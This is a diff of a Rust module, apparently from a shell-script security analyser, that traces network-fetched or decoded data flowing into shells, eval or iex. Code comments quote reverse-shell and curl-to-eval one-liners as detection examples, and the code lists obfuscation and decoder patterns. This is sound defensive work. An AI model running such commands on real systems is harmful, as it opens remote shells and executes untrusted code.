@@ -1,10 +1,10 @@
-//! What comes from the network, or out of a decoder, and goes into something that runs it.
+//! Finds data that flows from the network or a decoder into something that runs it.
 
 use super::{Level, Reason, reason};
 use crate::effects::{Effect, Kind, Place, canonical, effects, is_socket, place_of};
 use crate::parse::{Construct, How, Invocation, Redirect, Script};
 
-/// Where a stream comes from.
+/// The origin of a stream.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 enum Origin {
     Network,
@@ -145,9 +145,10 @@ fn is_one_of(script: &Script, command: &Invocation, names: &[&str]) -> bool {
     names.contains(&key.as_str()) || !bare.is_empty() && names.contains(&bare)
 }
 
-/// True if a redirection of the command, or of what runs it, joins it to another machine: `bash -i >& /dev/tcp/h/1 0>&1`.
-pub(super) fn is_joined(script: &Script, command: &Invocation) -> bool {
-    let opened = || {
+/// True if a redirection of the command, or of its wrapper, connects it to another machine: `bash -i >& /dev/tcp/h/1
+/// 0>&1`.
+pub(super) fn is_connected(script: &Script, command: &Invocation) -> bool {
+    let has_socket = || {
         script
             .commands
             .iter()
@@ -155,15 +156,16 @@ pub(super) fn is_joined(script: &Script, command: &Invocation) -> bool {
     };
     // `exec 5<>/dev/tcp/h/1; sh <&5`: a descriptor that was opened before
     let numbered = |r: &Redirect| r.duplicates() && r.target.text.parse::<u32>().is_ok_and(|number| number > 2);
-    let joins = |c: &Invocation| c.redirects.iter().any(|r| is_socket(&r.target.text) || numbered(r) && opened());
+    let connects =
+        |c: &Invocation| c.redirects.iter().any(|r| is_socket(&r.target.text) || numbered(r) && has_socket());
     let outer = command.inside.filter(|i| i.how == How::Wrapped).map(|i| &script.commands[i.command]);
-    joins(command) || outer.is_some_and(joins)
+    connects(command) || outer.is_some_and(connects)
 }
 
-/// Where the output of each command comes from, followed through pipes, substitutions and variables.
+/// Returns the origin of each command's output, traced through pipes, substitutions and variables.
 fn origins(script: &Script) -> Vec<Option<Origin>> {
     let mut origins: Vec<Option<Origin>> = script.commands.iter().map(|c| source(script, c)).collect();
-    // Each round follows every link once; chains are short, and the bound ends what would circle.
+    // each round follows every link once; chains are short, and the limit ends cycles
     for _ in 0..16 {
         let before = origins.clone();
         for (index, command) in script.commands.iter().enumerate() {
@@ -174,7 +176,7 @@ fn origins(script: &Script) -> Vec<Option<Origin>> {
                 if let Some(inside) = command.inside.filter(|i| i.how != How::Wrapped) {
                     origins[inside.command].get_or_insert(origin);
                 }
-                // What a wrapped command puts out is put out by its wrapper.
+                // the output of a wrapped command is the output of its wrapper
                 if let Some(inside) = command.inside.filter(|i| i.how == How::Wrapped) {
                     for reader in script.commands[inside.command].feeds.clone() {
                         origins[reader].get_or_insert(origin);
@@ -182,7 +184,7 @@ fn origins(script: &Script) -> Vec<Option<Origin>> {
                 }
             }
             if origins[index].is_none() {
-                origins[index] = by_variable(script, command, &origins);
+                origins[index] = variable_origin(script, command, &origins);
             }
         }
         if origins == before {
@@ -192,9 +194,9 @@ fn origins(script: &Script) -> Vec<Option<Origin>> {
     origins
 }
 
-/// The origin of a variable that the command mentions.
-fn by_variable(script: &Script, command: &Invocation, origins: &[Option<Origin>]) -> Option<Origin> {
-    // asked for every command, and answered by looking at all the others: most mention no variable
+/// Returns the origin of a variable that the command mentions.
+fn variable_origin(script: &Script, command: &Invocation, origins: &[Option<Origin>]) -> Option<Origin> {
+    // a quick check, as most commands mention no variable and the search visits all others
     if !command.words.iter().any(|w| w.text.contains('$')) {
         return None;
     }
@@ -202,7 +204,7 @@ fn by_variable(script: &Script, command: &Invocation, origins: &[Option<Origin>]
         let forms = [format!("${name}"), format!("${{{name}}}")];
         command.words.iter().any(|w| forms.iter().any(|n| w.text.contains(n.as_str())))
     };
-    // `curl ... | while read -r line; do eval "$line"; done`.
+    // `curl ... | while read -r line; do eval "$line"; done`
     let reads = script.commands.iter().enumerate().filter(|(_, c)| c.name() == Some("read"));
     let read = reads.filter_map(|(i, c)| Some((origins[i]?, c))).find(|(_, c)| c.operands().any(|w| mentions(&w.text)));
     if let Some((origin, _)) = read {
@@ -217,10 +219,10 @@ fn by_variable(script: &Script, command: &Invocation, origins: &[Option<Origin>]
 }
 
 fn source(script: &Script, command: &Invocation) -> Option<Origin> {
-    // `{base64,-d}`: braces that make a command line
-    let opened_up = in_braces(script, command);
-    let command = opened_up.as_ref().unwrap_or(command);
-    if is_fetcher(script, command) || is_joined(script, command) {
+    // `{base64,-d}`: braces that expand to a command line
+    let braces = brace_command(script, command);
+    let command = braces.as_ref().unwrap_or(command);
+    if is_fetcher(script, command) || is_connected(script, command) {
         return Some(Origin::Network);
     }
     if command.redirects.iter().any(|r| is_socket(&r.target.text)) || command.args().iter().any(|w| is_socket(&w.text))
@@ -236,29 +238,29 @@ fn source(script: &Script, command: &Invocation) -> Option<Origin> {
         "uudecode" | "rev" | "rot13" | "gunzip" | "zcat" | "bzcat" | "xzcat" | "zstdcat" | "bunzip2" | "unxz" => true,
         "gzip" | "bzip2" | "xz" | "zstd" | "lz4" => command.has_option(Some('d'), "decompress"),
         "echo" | "printf" | "print" => {
-            // `eval $(printf 'rm -%s' rf)`: put together so that it is not read
+            // `eval $(printf 'rm -%s' rf)`: assembled so that it cannot be read
             let inside = command.inside.is_some_and(|i| i.how == How::Substitution);
-            let put_together = inside
+            let is_assembled = inside
                 && command.operands().count() > 1
                 && command.operands().next().is_some_and(|w| w.text.contains('%'));
-            put_together || command.args().iter().any(|w| is_escaped(&w.text))
+            is_assembled || command.args().iter().any(|w| is_escaped(&w.text))
         }
         "awk" | "gawk" | "mawk" => command.args().iter().any(|w| w.text.contains("%c")),
-        // what is spelled out and turned into something else on its way was not meant to be read
-        "tr" | "sed" | "cut" | "tac" => spelled_out(script, command),
+        // a literal text that is transformed was not meant to be read
+        "tr" | "sed" | "cut" | "tac" => has_literal_input(script, command),
         name if crate::unwrap::is_interpreter(name) => {
-            const MAKES: [&str; 10] =
+            const DECODERS: [&str; 10] =
                 ["base64", "pack", "chr(", "decode", "fromhex", "unhexlify", "atob", "b64", "from(", "[::-1]"];
-            command.args().iter().any(|w| MAKES.iter().any(|m| w.text.contains(m)) || is_escaped(&w.text))
+            command.args().iter().any(|w| DECODERS.iter().any(|m| w.text.contains(m)) || is_escaped(&w.text))
         }
         "cat" | "tee" | "sudo" | "sh" | "bash" | "xargs" | "grep" | "sort" | "head" | "tail" => false,
-        // any other filter of a text that stands there in full
-        _ => command.stdin_pipe && spelled_out(script, command),
+        // any other filter of a literal text
+        _ => command.stdin_pipe && has_literal_input(script, command),
     };
     decodes.then_some(Origin::Decoder)
 }
 
-/// True for a text with letters written as numbers: `\x72`, `\162`, `\u0072`.
+/// True for a text with letters written as codes: `\x72`, `\162`, `\u0072`.
 fn is_escaped(text: &str) -> bool {
     text.match_indices('\\').any(|(at, _)| {
         let mut rest = text[at + 1..].chars();
@@ -273,22 +275,22 @@ fn is_escaped(text: &str) -> bool {
     })
 }
 
-/// True for a filter whose input stands in the script itself.
-fn spelled_out(script: &Script, command: &Invocation) -> bool {
+/// True for a filter whose input is a literal text of the script.
+fn has_literal_input(script: &Script, command: &Invocation) -> bool {
     let Some(index) = script.commands.iter().position(|c| std::ptr::eq(c, command)) else { return false };
-    super::given(script, index).iter().any(|text| !text.contains('$'))
+    super::stdin_texts(script, index).iter().any(|text| !text.contains('$'))
 }
 
-/// The command that braces make: `{base64,-d}`.
-fn in_braces(script: &Script, command: &Invocation) -> Option<Invocation> {
+/// Returns the command that braces expand to: `{base64,-d}`.
+fn brace_command(script: &Script, command: &Invocation) -> Option<Invocation> {
     let first = command.words.first().filter(|w| w.value.is_none() && w.text.starts_with('{'))?;
-    let opened = crate::effects::opened(&first.text);
+    let expanded = crate::effects::expand_braces(&first.text);
     let word = |text: String| crate::Word { value: Some(text.clone()), text, ..first.clone() };
-    let words: Vec<_> = opened.into_iter().map(word).chain(command.args().iter().cloned()).collect();
+    let words: Vec<_> = expanded.into_iter().map(word).chain(command.args().iter().cloned()).collect();
     (words.len() > 1 && script.dialect != crate::Dialect::Sh).then(|| Invocation { words, ..command.clone() })
 }
 
-/// True for a program that gets something from another machine.
+/// True for a program that reads from another machine.
 pub(super) fn is_fetcher(script: &Script, command: &Invocation) -> bool {
     let says = |word: &str| command.args().iter().any(|w| w.text == word);
     let shows = command.name() == Some("ssh") && command.words.len() > 1;
@@ -298,7 +300,7 @@ pub(super) fn is_fetcher(script: &Script, command: &Invocation) -> bool {
         || command.name() == Some("openssl") && says("s_client")
 }
 
-/// The origin of what this command runs, if it runs a stream.
+/// Returns the origin of the stream that a command runs, if it runs one.
 fn runs_stream(script: &Script, index: usize, command: &Invocation, origins: &[Option<Origin>]) -> Option<Origin> {
     let inner = |how: fn(How) -> bool| {
         script.commands.iter().enumerate().find_map(|(i, c)| {
@@ -306,7 +308,7 @@ fn runs_stream(script: &Script, index: usize, command: &Invocation, origins: &[O
             origins[i].map(|origin| (origin, inside.word))
         })
     };
-    // The program itself is the output of a tainted command: `$(curl ...)`, and the inside of `eval "$(curl ...)"`.
+    // the program itself is the output of a tainted command: `$(curl ...)`, and the inside of `eval "$(curl ...)"`
     if let Some((origin, Some(0))) = inner(|how| how == How::Substitution) {
         return Some(origin);
     }
@@ -314,9 +316,9 @@ fn runs_stream(script: &Script, index: usize, command: &Invocation, origins: &[O
     if first.value.is_none() {
         let hidden =
             || command.args().iter().any(|w| w.text == "-c").then(|| inner(|how| how == How::Substitution)).flatten();
-        return by_variable(script, command, origins).or_else(|| hidden().map(|(origin, _)| origin));
+        return variable_origin(script, command, origins).or_else(|| hidden().map(|(origin, _)| origin));
     }
-    // What stands in `iex (...)` is an expression, and its value is what is run.
+    // `iex (...)` runs the value of the expression
     let expression = is_one_of(script, command, &["iex", "invoke-expression"]);
     if let Some((origin, _)) = expression.then(|| inner(|_| true)).flatten() {
         return Some(origin);
@@ -327,11 +329,11 @@ fn runs_stream(script: &Script, index: usize, command: &Invocation, origins: &[O
         if let Some((origin, _)) = inner(|how| how != How::Wrapped) {
             return Some(origin);
         }
-        if evaluates && by_variable(script, command, origins).is_some() {
-            return by_variable(script, command, origins);
+        if evaluates && variable_origin(script, command, origins).is_some() {
+            return variable_origin(script, command, origins);
         }
     }
-    if is_one_of(script, command, SHELLS) && reads_standard_input(command) && is_joined(script, command) {
+    if is_one_of(script, command, SHELLS) && reads_standard_input(command) && is_connected(script, command) {
         return Some(Origin::Network);
     }
     let reads = (shell || evaluates) && command.stdin_pipe && reads_standard_input(command)
@@ -343,12 +345,12 @@ fn runs_stream(script: &Script, index: usize, command: &Invocation, origins: &[O
     if reads {
         return feeder();
     }
-    // `curl ... | xargs -I{} sh -c '{}'`.
+    // `curl ... | xargs -I{} sh -c '{}'`
     let xargs = command.via.iter().any(|v| v == "xargs") && shell;
     xargs.then(|| command.inside.and_then(|i| origins[i.command])).flatten()
 }
 
-/// True for `sudo -s`, `sudo -i` and `su` with no command of their own: the shell that they open reads what comes.
+/// True for `sudo -s`, `sudo -i` and `su` without a command: the shell that they open reads the input.
 fn opens_a_shell(script: &Script, index: usize, command: &Invocation) -> bool {
     let runs = |c: &Invocation| c.inside.is_some_and(|i| i.command == index && i.how == How::Wrapped);
     let letters = |letter: char| {
@@ -381,7 +383,7 @@ fn reads_standard_input(command: &Invocation) -> bool {
     stdin_option || !script_option && args.iter().all(|w| w.text.starts_with('-'))
 }
 
-/// Names of files that the script downloads.
+/// Returns the names of the files that the script downloads.
 fn downloads(script: &Script) -> Vec<String> {
     let mut names = Vec::new();
     let done = effects(script);
@@ -390,7 +392,7 @@ fn downloads(script: &Script) -> Vec<String> {
             continue;
         }
         let mut named = false;
-        // `-o FILE` in every spelling: what the table says it writes
+        // `-o FILE` in any spelling: the table knows the files it writes
         let made = |e: &&Effect| e.command == Some(index) && matches!(e.kind, Kind::Overwrite | Kind::Create);
         for path in done.iter().filter(made).filter_map(|e| e.path.clone()).filter(|p| place_of(p) != Place::Sink) {
             names.push(path);
@@ -400,9 +402,9 @@ fn downloads(script: &Script) -> Vec<String> {
             names.push(redirect.target.text.clone());
             named = true;
         }
-        // `-O`, and `-P DIR`: the name is the address's
+        // `-O`, and `-P DIR`: the name comes from the address
         if !named || command.args().iter().any(|w| w.text.starts_with("-O") || w.text.starts_with("-P")) {
-            // these two take an address without its scheme
+            // these accept an address without a scheme
             let kept = |w: &crate::Word| is_one_of(script, command, &["wget"]) || w.text.starts_with("-O");
             let short = command.args().iter().any(kept) && is_one_of(script, command, &["curl", "wget"]);
             let is_address = |text: &str| text.contains("://") || short && text.contains('/') && !text.starts_with('-');
@@ -412,7 +414,7 @@ fn downloads(script: &Script) -> Vec<String> {
             };
             names.extend(command.args().iter().filter_map(|w| last(&w.text)));
         }
-        // `curl x | tee install.sh && sh install.sh`, `curl x | sed ... > y`.
+        // `curl x | tee install.sh && sh install.sh`, `curl x | sed ... > y`
         for reader in
             command.feeds.iter().filter_map(|i| script.commands.get(*i)).chain(std::iter::once(&script.commands[index]))
         {
